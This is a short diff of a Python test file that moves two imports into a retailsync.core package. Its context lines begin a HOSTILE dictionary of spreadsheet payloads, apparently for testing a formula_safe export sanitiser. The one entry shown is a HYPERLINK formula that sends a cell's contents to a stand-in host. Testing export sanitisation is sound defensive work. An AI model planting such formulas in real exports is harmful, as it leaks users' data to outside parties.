@@ -10,8 +10,8 @@ import openpyxl
 import pytest
 
 from inventory.models import Item
-from retailsync.exports import formula_safe
-from retailsync.services import user_create
+from retailsync.core.exports import formula_safe
+from retailsync.core.services import user_create
 
 HOSTILE = {
     "EVIL-1": '=HYPERLINK("http://x.example/?"&A1,"click")',
